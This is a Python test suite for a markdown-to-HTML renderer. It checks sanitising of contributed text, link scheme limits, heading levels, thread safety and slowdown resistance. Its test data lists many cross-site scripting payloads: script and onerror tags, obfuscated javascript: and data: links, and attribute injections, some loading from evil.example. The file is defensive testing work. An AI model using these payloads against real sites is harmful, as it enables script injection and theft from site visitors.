"""Markdown of strangers becomes HTML that can do no harm, and reads the same every time."""

import re
import signal
import sys
from concurrent.futures import ThreadPoolExecutor
from contextlib import contextmanager
from html.parser import HTMLParser
from itertools import pairwise, product

import pytest

from resourcecenter.core.markdown import render, words

LONGEST = 20_000  # characters: the longest text that a form takes
TAGS = {
    "a", "blockquote", "br", "code", "div", "em", "h2", "h3", "h4", "h5", "h6", "hr", "li", "ol", "p", "pre", "s",
    "strong", "table", "tbody", "td", "th", "thead", "tr", "ul",
}  # fmt: skip
ATTRIBUTES = {"a": {"href", "title", "rel"}, "ol": {"start"}, "div": {"class", "role", "tabindex", "aria-label"}}
FRAME = [("class", "table-scroll"), ("role", "group"), ("tabindex", "0"), ("aria-label", "Table")]
VOID = {"br", "hr"}
SCHEMES = {"http", "https", "mailto"}


class Reader(HTMLParser):
    """Reads HTML as a browser would, and takes note of what is not allowed."""

    def __init__(self, html):
        super().__init__(convert_charrefs=True)
        self.tags, self.links, self.problems, self.text, self._open = [], [], [], "", []
        self.feed(html)
        self.close()
        self.problems += [f"<{tag}> stays open" for tag in self._open]

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        if tag not in TAGS:
            self.problems.append(f"<{tag}>")
        for name, value in attrs:
            if name not in ATTRIBUTES.get(tag, ()):
                self.problems.append(f"<{tag} {name}={value!r}>")
            if name == "href" and scheme_of(value) not in SCHEMES | {""}:
                self.problems.append(f"<a href={value!r}>")
        if tag == "a":
            self.links.append(dict(attrs))
        if tag == "div" and attrs != FRAME:
            self.problems.append(f"<div> with {attrs}")
        if tag not in VOID:
            self._open.append(tag)

    def handle_endtag(self, tag):
        if not self._open or self._open.pop() != tag:
            self.problems.append(f"</{tag}> out of order")

    def handle_data(self, data):
        self.text += data

    def handle_comment(self, data):
        self.problems.append(f"<!--{data}-->")

    def handle_decl(self, decl):
        self.problems.append(f"<!{decl}>")

    unknown_decl = handle_decl

    def handle_pi(self, data):
        self.problems.append(f"<?{data}>")


def scheme_of(address):
    """The scheme that a browser sees: it ignores controls and space at the ends, tabs and line ends anywhere."""
    seen = re.sub(r"[\t\n\r]", "", (address or "").strip("".join(map(chr, range(0x21)))))
    match = re.match(r"([a-z][a-z0-9+.-]*):", seen, re.IGNORECASE)
    return match[1].lower() if match else ""


# --- Hostile texts ------------------------------------------------------------------------------

RAW_HTML = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src='x' onerror='alert(1)'/>",
    "<svg/onload=alert(1)>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'></iframe>",
    "<object data=javascript:alert(1)>",
    "<form action=//evil.example><input name=password autofocus onfocus=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='https://example.org' onclick=alert(1) style='position:fixed'>x</a>",
    "<p style='background:url(javascript:alert(1))' class=card id=top>x</p>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css'</style>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea></textarea><script>alert(1)</script>",
    "<!-- <img src=x onerror=alert(1)> -->",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<!DOCTYPE html><script>alert(1)</script>",
    "<?php echo 1 ?>",
    "<%= 1 %>",
    "<div markdown=1>*x*<script>alert(1)</script></div>",
    "<table><tr><td onmouseover=alert(1)>x",
    "</p></article></main><script>alert(1)</script>",
    "</table></div><img src=x onerror=alert(1)>",
    "<script\n>alert(1)</script\n>",
    "<\0script>alert(1)</script>",
    "\ufeff<script>alert(1)</script>",
    "<b><i><u>x",
]
PLACES = [
    "{}",
    "a {} b",
    "# {}",
    "> {}",
    "- {}",
    "- a\n\n    {}",
    "    {}",
    "`{}`",
    "```\n{}\n```",
    "**{}**",
    "[{}](https://example.org)",
    "[a](https://example.org '{}')",
    "[a][1]\n\n[1]: https://example.org '{}'",
    "*[abbr]: {}\n\nabbr",
    "term\n: {}",
    "a | b\n--|--\n{} | 2",
    "{} | b\n--|--\n1 | 2",
    "{}\n===",
    "![{}](x)",
    "\\{}",
    "&lt;{}",
]
ADDRESSES = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "java\r\nscript:alert(1)",
    "\x01javascript:alert(1)",
    "\x1fjavascript:alert(1)",
    "\u00a0javascript:alert(1)",
    "\u200bjavascript:alert(1)",
    "\u2028javascript:alert(1)",
    "\0javascript:alert(1)",
    "java\0script:alert(1)",
    "java&#115;cript:alert(1)",
    "java&#x73;cript:alert(1)",
    "java&#0000115cript:alert(1)",
    "&#106;&#97;&#118;&#97;script:alert(1)",
    "&#x6A;avascript:alert(1)",
    "javascript&colon;alert(1)",
    "javascript&#58;alert(1)",
    "javascript&#x3a;alert(1)",
    "java&Tab;script:alert(1)",
    "java&NewLine;script:alert(1)",
    "&#1;javascript:alert(1)",
    "java\\script:alert(1)",
    "javascript\\:alert(1)",
    "javascript://example.org/%0aalert(1)",
    "javascript:alert(1)//https://example.org",
    "view-source:javascript:alert(1)",
    "feed:javascript:alert(1)",
    "jar:javascript:alert(1)!/",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "DATA:image/svg+xml,<svg onload=alert(1)>",
    "vbscript:msgbox(1)",
    "VBScript:msgbox(1)",
    "livescript:alert(1)",
    "file:///etc/passwd",
    "blob:https://example.org/1",
    "ftp://example.org/",
    "tel:1",
    "intent://x#Intent;end",
    "https://[::1",
    'https://example.org/" onmouseover="alert(1)',
    "https://example.org/' onmouseover='alert(1)",
    "https://example.org/><script>alert(1)</script>",
    "https://example.org/`onmouseover=alert(1)",
]
LINKS = [
    "[a]({})",
    "[a](<{}>)",
    "<{}>",
    "[a][1]\n\n[1]: {}",
    "[a][1]\n\n[1]: <{}>",
    "[a]\n\n[a]: {} 'title'",
    "![a]({})",
    "![a][1]\n\n[1]: {}",
    "[![a]({0})]({0})",
    "[a]({} 'title')",
    "{}",
    "*[a]: {}\n\na",
    "[^1]\n\n[^1]: {}",
]
INJECTIONS = [
    "[a](https://example.org '\" onmouseover=\"alert(1)')",
    "[a](https://example.org \"' onmouseover='alert(1)\")",
    "[a](https://example.org \"\" onmouseover=alert(1) \"\")",
    "[a](https://example.org){: onclick=alert(1) #id .class }",
    "# Heading {: onclick=alert(1) #id}",
    "# Heading {#id onclick=alert(1)}",
    '*[abbr]: " onmouseover="alert(1)\n\nabbr',
    "*[<script>]: x\n\n<script>",
    "*[a]: <script>alert(1)</script>\n*[script]: \" onload=\"alert(1)\n\na script",
    "term <script>alert(1)</script>\n: <script>alert(1)</script>",
    "<script>\n:   alert(1)",
    '```" onmouseover="alert(1)\ncode\n```',
    "```<script>\ncode\n```",
    '1. a\n2. b\n\n<ol start="1" onload=alert(1)>',
    "99999999999999999999. a",
    "a | b\n:--\"onload=alert(1)|--:\n1 | 2",
    "a | b\n:--|--:\n1 | 2",
    "<https://example.org/\"onmouseover=\"alert(1)>",
    "<a@example.org\"onmouseover=alert(1)>",
    "<\"onmouseover=alert(1)\"@example.org>",
    "[a](mailto:a@example.org?subject=\"><script>alert(1)</script>)",
    "`</code><script>alert(1)</script>`",
    "    </code></pre><script>alert(1)</script>",
    "\x02klzzwxh:0000\x03 \x02wzxhzdk:0\x03 \x02amp\x03 \x02106\x03 <script>",
    "[a](\x02klzzwxh:0000\x03) `javascript:alert(1)`",
    "[a](`javascript:alert(1)`)",
    "[[[a](javascript:alert(1))](https://example.org)](javascript:alert(1))",
    "[a](https://example.org)(javascript:alert(1))",
    "<table><div class='table-scroll'></table>",
    "a | b\n--|--\n</table></div> | `</table>`",
]  # fmt: skip


@pytest.mark.parametrize("raw", RAW_HTML, ids=ascii)
def test_raw_html_is_shown_and_never_obeyed(raw):
    for place in PLACES:
        html = render(place.format(raw), contributed=True)
        assert Reader(html).problems == [], (place, html)


@pytest.mark.parametrize("address", ADDRESSES, ids=ascii)
def test_a_link_leads_nowhere_but_to_the_web_and_to_mail(address):
    for link in LINKS:
        html = render(link.format(address), contributed=True)
        assert Reader(html).problems == [], (link, html)


@pytest.mark.parametrize("text", INJECTIONS, ids=ascii)
def test_nobody_writes_attributes_by_markdown(text):
    assert Reader(render(text, contributed=True)).problems == []


@pytest.mark.parametrize("raw", ["<script>alert(1)</script>", "<b>bold</b>", "a < b && c > d", "<!-- note -->"])
def test_readers_see_the_html_that_was_typed(raw):
    assert Reader(render(raw)).text.strip() == raw


def test_images_are_not_loaded():
    page = Reader(
        render("![map](https://tracker.example/pixel.png) ![map][1]\n\n[1]: https://tracker.example/pixel.png")
    )
    assert "img" not in page.tags
    assert "map" in page.text


# --- What authors may do ------------------------------------------------------------------------


def test_ordinary_text_keeps_its_structure():
    text = """
A *first* line with **weight** and `code`.

> Quoted

3. third
4. fourth

- one
- two

---

    code block
"""
    tags = Reader(render(text)).tags
    assert tags == [
        "p",
        "em",
        "strong",
        "code",
        "blockquote",
        "p",
        "ol",
        "li",
        "li",
        "ul",
        "li",
        "li",
        "hr",
        "pre",
        "code",
    ]


@pytest.mark.parametrize(
    ("text", "href"),
    [
        ("[a](https://example.org/x?a=1&b=2)", "https://example.org/x?a=1&b=2"),
        ("[a](HTTP://example.org)", "HTTP://example.org"),
        ("[a](/networks/)", "/networks/"),
        ("[a](#sources)", "#sources"),
        ("[a](mailto:ada@example.org)", "mailto:ada@example.org"),
        ("<https://example.org/>", "https://example.org/"),
        ("[a][1]\n\n[1]: https://example.org/", "https://example.org/"),
        ("[a]\n\n[a]: https://example.org/ 'Title'", "https://example.org/"),
    ],
)
@pytest.mark.parametrize(("contributed", "rel"), [(True, "nofollow ugc noopener"), (False, "noopener")])
def test_links_work_and_those_of_strangers_give_no_credit(text, href, contributed, rel):
    (link,) = Reader(render(text, contributed=contributed)).links
    assert (link["href"], link["rel"]) == (href, rel)


@pytest.mark.parametrize("text", [*(link.format("https://example.org/") for link in LINKS), "[a](javascript:alert(1))"])
def test_every_link_of_a_stranger_says_so(text):
    links = Reader(render(text, contributed=True)).links
    assert [link["rel"] for link in links] == ["nofollow ugc noopener"] * len(links)


@pytest.mark.parametrize("first", range(1, 7))
def test_headings_begin_below_the_title_and_never_skip_a_level(first):
    for typed in product([first], range(1, 7), range(1, 7)):
        html = render("\n\n".join(f"{'#' * level} Heading" for level in typed))
        levels = [int(tag[1]) for tag in Reader(html).tags]
        assert levels[0] == 2
        assert all(level <= before + 1 for before, level in pairwise(levels)), typed


def test_headings_keep_their_order_of_rank():
    text = "# One\n\n### One and a bit\n\nTwo\n===\n\n## Two and a bit\n\n### More\n\n## Again"
    assert Reader(render(text)).tags == ["h2", "h3", "h2", "h3", "h4", "h3"]


@pytest.mark.parametrize("text", ["> # Quoted\n\n### After", "- ## Item\n\n#### After", "###### Deep\n\n> # Quoted"])
def test_headings_in_quotes_and_lists_count_too(text):
    levels = [int(tag[1]) for tag in Reader(render(text)).tags if re.fullmatch("h[1-6]", tag)]
    assert levels[0] == 2
    assert levels[1] <= 3


def test_a_wide_table_scrolls_by_itself_and_by_keyboard():
    html = render("a | b\n--|--\n1 | 2\n\nbetween\n\nc | d\n:--|--:\n3 | 4")
    assert Reader(html).problems == []
    assert Reader(html).tags.count("table") == 2
    assert (
        html.count('<div class="table-scroll" role="group" tabindex="0" aria-label="Table"><table>')
        == html.count("</table></div>")
        == 2
    )


@pytest.mark.parametrize("text", ["", " ", "\n\n"])
def test_nothing_gives_nothing(text):
    assert Reader(render(text)).tags == []


# --- One text does not touch another ------------------------------------------------------------

DEFINING = [
    "*[HTML]: first meaning\n\nHTML",
    "*[HTML]: second meaning\n\nHTML",
    "[x]: https://example.org/first\n\n[x] [^1]",
    "[x]: https://example.org/second 'title'\n\n[x]",
    "[^1]: https://example.org/note\n\n[^1]",
    "# Heading\n\n###### Deep",
    "`unclosed **bold [x](",
    "\x02klzzwxh:0000\x03 `code`",
    "term\n: definition",
    "> - 1. a",
]


def test_what_one_text_defines_means_nothing_in_the_next():
    asking = "HTML, [x], [x][x] and [^1]"
    for text in DEFINING:
        render(text)
        assert Reader(render(asking)).tags == ["p"]


def test_the_same_text_gives_the_same_html_whatever_came_before():
    first = [render(text) for text in DEFINING]
    assert [render(text) for text in reversed(DEFINING)] == first[::-1]
    assert [render(text) for text in DEFINING for _ in range(2)] == [html for html in first for _ in range(2)]


@pytest.fixture
def _impatient_threads():
    interval = sys.getswitchinterval()
    sys.setswitchinterval(1e-5)
    yield
    sys.setswitchinterval(interval)


@pytest.mark.usefixtures("_impatient_threads")
def test_readers_at_the_same_time_get_each_their_own_text():
    texts = [
        f"# T{n}\n\nN{n} `code {n}` **b{n}** [r][x]\n\n[x]: https://example.org/{n}\n\n*[N{n}]: abbr {n}"
        for n in range(20)
    ]
    alone = [render(text) for text in texts]
    with ThreadPoolExecutor(8) as pool:
        together = list(pool.map(render, texts * 40))
    assert together == alone * 40


# --- Texts made to take long --------------------------------------------------------------------

ENDLESS = [
    "[",
    "![",
    "[a](",
    "[a]",
    "[[a]",
    "*",
    "**a",
    "***a**",
    "_a_",
    "> ",
    ">",
    "`",
    "`a`",
    "- ",
    "1. ",
    "# a\n",
    "<",
    "&",
    "\\",
    "a\n===\n",
    "a|b\n-|-\n",
    "*[a]: b\n",
    "[a]: b\n",
    "a\n: b\n",
    "<http://a",
    "[a](b '",
    "\t",
    "\n",
]


@contextmanager
def deadline(seconds):
    """Stop what a worker's own timeout would kill; generous, for slow machines."""

    def stop(*_):
        raise TimeoutError

    before = signal.signal(signal.SIGALRM, stop)
    signal.alarm(seconds)
    try:
        yield
    finally:
        signal.alarm(0)
        signal.signal(signal.SIGALRM, before)


@pytest.mark.parametrize("unit", ENDLESS, ids=ascii)
def test_the_longest_text_is_rendered_however_it_is_made(unit):
    text = (unit * LONGEST)[:LONGEST]
    with deadline(seconds=15):
        html = render(text, contributed=True)
    assert Reader(html).problems == []


# --- The words of a text ------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "read"),
    [
        ("Plain words,\n\nin two paragraphs.", "Plain words, in two paragraphs."),
        ("# A *guide* for __you__", "A guide for you"),
        ("See [the **guide**](https://example.org/a_(b)?x=1 'Title') now", "See the guide now"),
        ("![A map](map.png) <https://example.org/x>", "A map"),
        ("See [there][1].\n\n[1]: https://example.org/hidden", "See [there][1]."),
        ("- one\n* two\n  1. three\n> > four", "one two three four"),
        ("| a | b |\n|---|:-:|\n| 1 | 2 |", "a b 1 2"),
        ("Heading\n=======\n\n---\n\n```python\ncode\n```", "Heading code"),
        (r"snake_case, 2 \* 3, _em_ ~~gone~~ `x`", "snake_case, 2 3, em gone x"),
        ("", ""),
    ],
)
def test_the_words_of_a_text_are_what_a_reader_sees(text, read):
    assert words(text) == read


HARD = ["[x](", "[x]((a", "[x](a '", "- ", "1. ", "|-", "=-x", "_a", "\\*", " \t"]


@pytest.mark.parametrize("unit", [*ENDLESS, *HARD], ids=ascii)
def test_the_words_of_the_longest_text_are_read_however_it_is_made(unit):
    with deadline(seconds=5):
        words((unit * LONGEST)[:LONGEST])
